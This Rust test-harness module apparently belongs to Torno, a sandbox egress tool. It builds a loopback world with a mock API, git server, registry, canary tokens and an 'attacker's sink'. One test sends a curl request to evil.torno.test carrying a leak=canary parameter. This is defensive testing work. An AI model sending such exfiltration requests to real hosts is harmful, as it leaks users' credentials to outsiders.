// SPDX-License-Identifier: Apache-2.0
//! The whole world of a story: one authority, an API, a git server and the attacker's sink, on
//! loopback, with fresh credentials. The names are reached by operator pins; `evil.torno.test` is
//! pinned too, so that only a grant that does not name it stands between a sandbox and the sink.

pub mod api;
pub mod authority;
pub mod bodies;
pub mod git;
pub mod internet;
pub mod journal;
pub mod lawless;
pub mod lfs;
pub mod listen;
pub mod places;
pub mod registry;
pub mod sink;

use crate::world::api::Api;
use crate::world::authority::Authority;
use crate::world::git::{GitOrigin, make_repository};
use crate::world::lawless::Map;
use crate::world::listen::Listening;
use crate::world::registry::Registry;
use anyhow::{Context, Result};
use std::fmt::Write as _;
use std::io::Read;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use tempfile::TempDir;
use tokio::runtime::Runtime;

/// The API's name.
pub const API: &str = "api.torno.test";
/// A second API's name: allowed in most stories, without credential.
pub const OTHER: &str = "other.torno.test";
/// The git server's name.
pub const GIT: &str = "git.torno.test";
/// The package registry's name.
pub const NPM: &str = "npm.torno.test";
/// The attacker's name: never granted.
pub const EVIL: &str = "evil.torno.test";

/// The world, until it is dropped.
#[derive(Debug)]
pub struct World {
    directory: TempDir,
    /// The API.
    pub api: Listening,
    /// What the API does.
    pub api_origin: Arc<Api>,
    /// The other API: wants the same kind of token, has another one.
    pub other: Listening,
    /// The git server.
    pub git: Listening,
    /// What the git server does.
    pub git_origin: Arc<GitOrigin>,
    /// The package registry.
    pub npm: Listening,
    /// The attacker's sink.
    pub evil: Listening,
    /// A proxy without any law, for attempts with their wall off.
    pub lawless: SocketAddr,
    /// The API's token: a canary.
    pub api_token: String,
    /// The git server's token: a canary.
    pub git_token: String,
    _runtime: Runtime,
}

impl World {
    /// Starts everything.
    ///
    /// # Errors
    /// When a part does not start.
    pub fn start() -> Result<Self> {
        let directory = tempfile::Builder::new()
            .prefix("torno-world-")
            .tempdir()
            .context("no temporary directory")?;
        let authority = Authority::new("Torno stage, throw-away authority")?;
        std::fs::write(directory.path().join("ca.pem"), authority.pem()).context("no CA file")?;
        // An ordinary user's Torno reads that file too.
        let passable = std::fs::Permissions::from_mode(0o711);
        std::fs::set_permissions(directory.path(), passable).context("the world's directory")?;
        let repositories = directory.path().join("repositories");
        for name in ["acme/app", "acme/secret-plans"] {
            make_repository(&repositories, name)?;
        }
        let api_token = format!("sk-live-{}", random()?);
        let git_token = format!("ghp_{}", random()?);
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .context("no runtime")?;
        let api_origin = Arc::new(Api::new(&api_token));
        let git_origin = Arc::new(GitOrigin::new(&repositories, &git_token));
        let registry = Arc::new(Registry::new()?);
        let (far, lawless) = runtime.block_on(async {
            let serving = Arc::clone(&api_origin);
            let api = listen::serve(authority.server(&[API])?, serving).await?;
            let other = Arc::new(Api::new("another-token-of-another-account"));
            let other = listen::serve(authority.server(&[OTHER])?, other).await?;
            let serving = Arc::clone(&git_origin);
            let git = listen::serve(authority.server(&[GIT])?, serving).await?;
            let npm = listen::serve(authority.server(&[NPM])?, registry).await?;
            let evil = sink::serve(authority.server(&[EVIL])?).await?;
            let far = [api, other, git, npm, evil];
            let lawless = lawless::serve(map(&pins(&far.each_ref()))).await?;
            anyhow::Ok((far, lawless))
        })?;
        let [api, other, git, npm, evil] = far;
        Ok(Self {
            directory,
            api,
            api_origin,
            other,
            git,
            git_origin,
            npm,
            evil,
            lawless,
            api_token,
            git_token,
            _runtime: runtime,
        })
    }

    /// The authority's certificate file.
    #[must_use]
    pub fn ca(&self) -> PathBuf {
        self.directory.path().join("ca.pem")
    }

    /// The directory of the git server's repositories.
    #[must_use]
    pub fn repositories(&self) -> PathBuf {
        self.directory.path().join("repositories")
    }

    /// Name, port and far end of everything that is pinned.
    #[must_use]
    pub fn pins(&self) -> Vec<Pin<'_>> {
        pins(&[&self.api, &self.other, &self.git, &self.npm, &self.evil])
    }

    /// Where everything leads when no wall is in the way.
    #[must_use]
    pub fn map(&self) -> Map {
        map(&self.pins())
    }

    /// The operator's `upstreams.toml` for this world.
    #[must_use]
    pub fn upstreams(&self) -> String {
        let ca = self.ca();
        let mut text = String::new();
        for (host, port, far) in self.pins() {
            let address = far.address;
            let place = format!("host = \"{host}\"\nport = {port}\naddress = \"{address}\"");
            let _ = write!(text, "[[pin]]\n{place}\nca = \"{}\"\n\n", ca.display());
        }
        text
    }

    /// What the far ends hold of the plaintext, by name.
    #[must_use]
    pub fn journals(&self) -> Vec<(&'static str, Vec<u8>)> {
        vec![
            (API, self.api.journal.plaintext()),
            (OTHER, self.other.journal.plaintext()),
            (GIT, self.git.journal.plaintext()),
            (NPM, self.npm.journal.plaintext()),
            (EVIL, self.evil.journal.plaintext()),
        ]
    }
}

/// A name, a port, and the far end that stands for them.
pub type Pin<'f> = (&'static str, u16, &'f Listening);

fn pins<'f>([api, other, git, npm, evil]: &[&'f Listening; 5]) -> Vec<Pin<'f>> {
    vec![
        (API, 443, api),
        (OTHER, 443, other),
        (GIT, 443, git),
        (NPM, 443, npm),
        (EVIL, 443, evil),
        (EVIL, 80, evil),
        (EVIL, 8443, evil),
    ]
}

/// The discard port, where nobody listens.
const NOBODY: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 9);

fn map(pins: &[Pin<'_>]) -> Map {
    let known = pins
        .iter()
        .map(|(host, port, far)| (format!("{host}:{port}"), far.address));
    let sink = pins.iter().find(|(host, _, _)| *host == EVIL);
    Map {
        known: known.collect(),
        otherwise: sink.map_or(NOBODY, |(_, _, far)| far.address),
    }
}

/// 32 hex digits of 128 random bits.
///
/// # Errors
/// When the system has no random source.
pub fn random() -> Result<String> {
    let mut bytes = [0; 16];
    std::fs::File::open(Path::new("/dev/urandom"))
        .and_then(|mut source| source.read_exact(&mut bytes))
        .context("no random source")?;
    Ok(data_encoding::HEXLOWER.encode(&bytes))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::{Command, Stdio};

    fn curl(world: &World, far: &Listening, host: &str) -> Command {
        let mut curl = Command::new("/usr/bin/curl");
        curl.args(["--silent", "--max-time", "10", "--noproxy", "*", "--cacert"]);
        curl.arg(world.ca());
        let to = format!("{host}:443:127.0.0.1:{}", far.address.port());
        curl.args(["--connect-to", &to]).stdin(Stdio::null());
        curl
    }

    #[test]
    fn the_api_demands_its_token_and_gives_it_back_as_asked() {
        let world = World::start().unwrap();
        let call = |path: &str, token: &str| {
            let header = format!("authorization: Bearer {token}");
            let url = format!("https://{API}{path}");
            let output = curl(&world, &world.api, API)
                .args(["--header", &header, "--compressed", &url])
                .output()
                .unwrap();
            String::from_utf8_lossy(&output.stdout).into_owned()
        };
        assert!(call("/v1/me", "wrong").contains("valid bearer token"));
        assert!(call("/v1/me", &world.api_token).contains("agent"));
        for form in ["raw", "gzip", "split"] {
            let body = call(&format!("/echo?as={form}"), &world.api_token);
            assert!(body.contains(&world.api_token), "{form}: {body}");
        }
        let seen = world.api.journal.requests();
        assert_eq!(seen[0].status, Some(401));
        assert_eq!(
            seen[1].header("authorization"),
            Some(format!("Bearer {}", world.api_token))
        );
        assert_eq!(world.api.journal.connections()[0].sni.as_deref(), Some(API));
    }

    #[test]
    fn the_sink_takes_and_keeps_anything() {
        let world = World::start().unwrap();
        let url = format!("https://{EVIL}/?leak=canary");
        let output = curl(&world, &world.evil, EVIL).arg(&url).output().unwrap();
        assert_eq!(output.stdout, b"caught\n");
        let connections = world.evil.journal.connections();
        assert_eq!(connections[0].sni.as_deref(), Some(EVIL));
        assert!(String::from_utf8_lossy(&connections[0].received).contains("leak=canary"));
    }

    #[test]
    fn a_real_git_clones_and_pushes_with_the_token_and_not_without() {
        let world = World::start().unwrap();
        let work = tempfile::tempdir().unwrap();
        let git = |token: &str, arguments: &[&str], directory: &Path| {
            let port = world.git.address.port();
            let resolve = format!("http.curloptResolve={GIT}:{port}:127.0.0.1");
            Command::new(crate::world::git::GIT)
                .current_dir(directory)
                .env_clear()
                .env("HOME", work.path())
                .env("GIT_TERMINAL_PROMPT", "0")
                .env("GIT_SSL_CAINFO", world.ca())
                .args([
                    "-c",
                    &resolve,
                    "-c",
                    "user.name=a",
                    "-c",
                    "user.email=a@torno.test",
                ])
                .args(
                    arguments
                        .iter()
                        .map(|a| a.replace("TOKEN", token).replace("PORT", &port.to_string())),
                )
                .output()
                .unwrap()
        };
        let url = format!("https://agent:TOKEN@{GIT}:PORT/acme/app.git");
        assert!(
            !git("wrong", &["clone", &url, "app"], work.path())
                .status
                .success()
        );
        let cloned = git(&world.git_token, &["clone", &url, "app"], work.path());
        assert!(
            cloned.status.success(),
            "{}",
            String::from_utf8_lossy(&cloned.stderr)
        );
        let app = work.path().join("app");
        git("", &["commit", "--quiet", "--allow-empty", "-m", "x"], &app);
        let pushed = git("", &["push", "origin", "HEAD:refs/heads/agent/x"], &app);
        assert!(
            pushed.status.success(),
            "{}",
            String::from_utf8_lossy(&pushed.stderr)
        );
        let head =
            crate::world::git::reference(&world.repositories(), "acme/app", "refs/heads/agent/x");
        assert!(head.is_some());
    }
}
